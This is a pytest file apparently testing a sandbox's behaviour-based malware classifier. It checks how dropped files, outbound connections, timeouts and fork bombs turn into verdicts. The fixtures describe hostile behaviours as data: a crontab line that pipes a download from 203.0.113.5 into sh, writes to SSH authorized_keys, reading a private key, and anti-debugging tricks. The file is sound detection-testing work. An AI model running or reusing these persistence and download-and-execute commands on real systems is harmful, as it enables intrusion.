"""Verdicts from behaviours: the order of verdicts, evidence, and what being stopped means."""

from __future__ import annotations

import pytest

from gateway.emulation import (
    Actor,
    Behaviour,
    Child,
    Judgement,
    Kind,
    StopKind,
    Stopped,
    judge_behaviours,
    load_rules,
)
from gateway.model import Severity, Verdict

RULES = load_rules()
LATE = Stopped(StopKind.TIMED_OUT, "still running after 10 s")


def did(
    kind: Kind, action: str, target: str, *arguments: str, by: str = "/bin/sh", time: float = 0.0
) -> Behaviour:
    return Behaviour(time, kind, Actor(2, 1, by), action, target, arguments)


def judged(
    *behaviours: Behaviour, stopped: Stopped | None = None, children: tuple[Child, ...] = ()
) -> Judgement:
    return judge_behaviours(behaviours, stopped, RULES, children)


WRITE = did(Kind.FILE, "write", "/tmp/dropped")
CONNECT = did(Kind.NETWORK, "connect", "203.0.113.5:80", by="/usr/bin/curl")
KEY = did(Kind.FILE, "write", "/home/user/.ssh/authorized_keys")


def test_nothing_seen_to_the_end_is_clean() -> None:
    judgement = judged()
    assert (judgement.verdict, judgement.hits) == (Verdict.CLEAN, ())
    assert 0 < judgement.confidence < 100


def test_drop_and_connect_is_malicious_with_both_as_evidence() -> None:
    judgement = judged(WRITE, CONNECT)
    assert judgement.verdict is Verdict.MALICIOUS
    hit = next(hit for hit in judgement.hits if hit.rule.id == "drop-and-connect")
    assert hit.evidence == (WRITE, CONNECT)
    finding = hit.finding(RULES.version)
    assert finding.severity is Severity.HIGH
    assert "203.0.113.5:80" in finding.evidence


def test_connecting_alone_is_suspicious_at_most() -> None:
    assert judged(CONNECT).verdict is Verdict.SUSPICIOUS
    named = did(Kind.NETWORK, "connect", "www.example:443", by="/usr/bin/curl")
    assert judged(named).verdict is Verdict.CLEAN


def test_loopback_is_not_outside() -> None:
    local = did(Kind.NETWORK, "connect", "127.0.0.1:8000", by="/usr/bin/python3")
    assert judged(WRITE, local).verdict is Verdict.CLEAN


def test_writing_alone_is_clean() -> None:
    assert judged(WRITE).verdict is Verdict.CLEAN


def test_downloaders_own_file_is_no_drop() -> None:
    own = did(Kind.FILE, "write", "/tmp/page.html", by="/usr/bin/wget")
    assert judged(own, CONNECT).verdict is Verdict.SUSPICIOUS


def test_stopped_and_nothing_seen_is_unscanned_without_confidence() -> None:
    judgement = judged(stopped=LATE)
    assert (judgement.verdict, judgement.confidence) == (Verdict.UNSCANNED, 0)
    assert LATE.detail in judgement.reason


def test_rules_still_fire_on_what_was_seen_before() -> None:
    judgement = judged(KEY, stopped=LATE)
    assert judgement.verdict is Verdict.MALICIOUS
    assert judgement.stopped_by == LATE


def test_fork_bomb_is_known_by_what_stopped_it() -> None:
    bomb = Stopped(StopKind.PROCESSES, "more than 64 processes at once")
    assert judged(stopped=bomb).verdict is Verdict.MALICIOUS


def test_order_counts_where_a_rule_says_so() -> None:
    execute = did(Kind.PROCESS, "execute", "/home/user/.x")
    write = did(Kind.FILE, "write", "/home/user/.x")
    ids = {hit.rule.id for hit in judged(write, execute).hits}
    assert "drop-and-run-hidden" in ids
    assert "drop-and-run-hidden" not in {hit.rule.id for hit in judged(execute, write).hits}


def test_content_of_dropped_files_counts() -> None:
    tab = did(Kind.FILE, "write", "/var/spool/cron/crontabs/user")
    harmless = Child(tab.target, "", 10, b"0 3 * * * tidy\n")
    download = Child(tab.target, "", 10, b"* * * * * curl http://203.0.113.5/x | sh\n")
    assert judged(tab, children=(harmless,)).verdict is Verdict.SUSPICIOUS
    assert judged(tab, children=(download,)).verdict is Verdict.MALICIOUS


def test_exception_holds_a_rule_back() -> None:
    key = did(Kind.FILE, "read", "/home/user/.ssh/id_rsa", by="/usr/bin/tar")
    walk = tuple(
        did(Kind.FILE, "read", f"/home/user/Documents/{number}", by="/usr/bin/tar")
        for number in range(6)
    )
    assert judged(key).verdict is Verdict.SUSPICIOUS
    assert judged(key, *walk).verdict is Verdict.CLEAN


def test_copies_of_documents_are_not_rewritten_documents() -> None:
    names = ("Thesis.docx", "Minutes.odt", "Salaries.xlsx", "todo.txt", "customers.csv")
    copies = [did(Kind.FILE, "write", f"/tmp/copy/{name}", by="/bin/cp") for name in names]
    assert judged(*copies).verdict is Verdict.CLEAN
    originals = [did(Kind.FILE, "write", f"/home/user/Documents/{name}") for name in names]
    assert judged(*originals).verdict is Verdict.MALICIOUS


def test_three_medium_signs_together_are_malicious() -> None:
    signs = (
        did(Kind.FILE, "delete", "/home/user/Downloads/s", "the sample itself"),
        did(Kind.PROCESS, "sleep", "600 s"),
        did(Kind.PROCESS, "trace", "PTRACE_TRACEME"),
    )
    assert judged(*signs[:2]).verdict is Verdict.SUSPICIOUS
    assert judged(*signs).verdict is Verdict.MALICIOUS


def test_worst_hit_comes_first_and_confidence_grows() -> None:
    one, two = judged(KEY), judged(KEY, WRITE, CONNECT)
    ranks = [hit.rule.severity.rank for hit in two.hits]
    assert ranks == sorted(ranks, reverse=True)
    assert two.confidence > one.confidence


def test_unknown_action_cannot_be_reported() -> None:
    with pytest.raises(ValueError, match="unknown action"):
        did(Kind.FILE, "explode", "/x")
